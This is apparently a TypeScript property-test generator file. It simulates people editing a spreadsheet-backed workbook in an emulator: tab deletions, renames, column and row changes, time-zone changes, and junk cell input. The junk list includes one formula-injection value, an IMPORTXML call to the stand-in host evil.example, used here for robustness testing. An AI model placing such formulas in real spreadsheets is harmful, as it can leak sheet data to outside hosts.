import { constantFrom, integer, oneof, record } from 'fast-check';
import {
  clearTab,
  deleteColumn,
  deleteTab,
  insertColumn,
  insertRow,
  pasteCell,
  renameTab,
  sortTab,
} from '../../emulator/person';
import type { World } from '../../emulator/world';
import type { Deed } from '../deed';
import type { Stage } from '../stage';

const TABS = ['Overview', 'Policy', 'Settings', 'Findings', 'Groups', 'Changes', 'Mail', 'Coverage', 'Runs', 'State'];

/** The invariants read the others by their titles. Postlock knows a tab by its id. */
const RENAMED = ['Overview', 'Policy', 'Settings', 'Mail', 'State'];

type Act = (world: World, workbook: string, tab: string, place: number) => void;

const columnsOf = (world: World, workbook: string, tab: string): number =>
  world.spreadsheets.get(workbook)?.sheets.find(({ properties }) => properties.title === tab)?.properties.gridProperties
    .columnCount ?? 0;

const ACTS: Record<string, Act> = {
  deletes: deleteTab,
  clears: clearTab,
  // Google lets nobody delete the last column.
  'deletes a column of'(world, workbook, tab, place) {
    const columns = columnsOf(world, workbook, tab);
    if (columns > 1) deleteColumn(world, workbook, tab, Math.min(place, columns - 1));
  },
  'inserts a column into': (world, workbook, tab, place) =>
    insertColumn(world, workbook, tab, Math.min(place, columnsOf(world, workbook, tab))),
  'inserts a row into': (world, workbook, tab, place) => insertRow(world, workbook, tab, place),
  sorts: (world, workbook, tab, place) => sortTab(world, workbook, tab, place),
};

const isThere = ({ here: { world, workbook } }: Stage, tab: string): boolean =>
  world.spreadsheets.get(workbook)?.sheets.some(({ properties }) => properties.title === tab) === true;

const deed = (words: string, tab: string, act: Act, place: number): Deed => ({
  words,
  happen(stage) {
    if (!isThere(stage, tab)) return;
    stage.touched.add(tab);
    act(stage.here.world, stage.here.workbook, tab, place);
  },
});

const changed = record({
  tab: constantFrom(...TABS),
  what: constantFrom(...Object.keys(ACTS)),
  place: integer({ min: 0, max: 3 }),
}).map(({ tab, what, place }) => deed(`somebody ${what} the tab ${tab} (${place})`, tab, ACTS[what] as Act, place));

const renamed = constantFrom(...RENAMED).map(tab =>
  deed(`somebody renames the tab ${tab}`, tab, (world, workbook) => renameTab(world, workbook, tab, `My ${tab}`), 0),
);

const GARBAGE = ['=1+1', '=IMPORTXML("http://evil.example","//a")', 'TRUE', '12345', 'gibberish', '1e999', '-'];

/** What people type into cells that were well: such a row never acts, and what stood there holds on. An emptied setting is none of it: it means the default. */
const garbled = record({
  tab: constantFrom('Policy', 'Settings', 'Groups', 'Findings', 'Runs', 'State'),
  row: integer({ min: 1, max: 5 }),
  column: integer({ min: 1, max: 4 }),
  text: constantFrom(...GARBAGE),
}).map(({ tab, row, column, text }): Deed => {
  const typed = deed(
    `somebody types ${text} into ${tab}, row ${row}, column ${column}`,
    tab,
    (world, workbook) => pasteCell(world, workbook, tab, row, column, text),
    column,
  );
  return {
    ...typed,
    happen(stage) {
      stage.typed.add(text);
      typed.happen(stage);
    },
  };
});

const zone = constantFrom('Europe/Berlin', 'America/Los_Angeles', 'Pacific/Apia', 'Etc/UTC').map(
  (timeZone): Deed => ({
    words: `somebody sets the time zone of the workbook to ${timeZone}`,
    happen({ here: { world, workbook }, touched }) {
      // Of an hour that came twice nobody can tell which one it was.
      touched.add('Runs');
      const properties = world.spreadsheets.get(workbook)?.properties;
      if (properties) properties.timeZone = timeZone;
    },
  }),
);

/** People in the workbook. */
export const workbook = oneof({ arbitrary: changed, weight: 4 }, { arbitrary: garbled, weight: 3 }, renamed, zone);
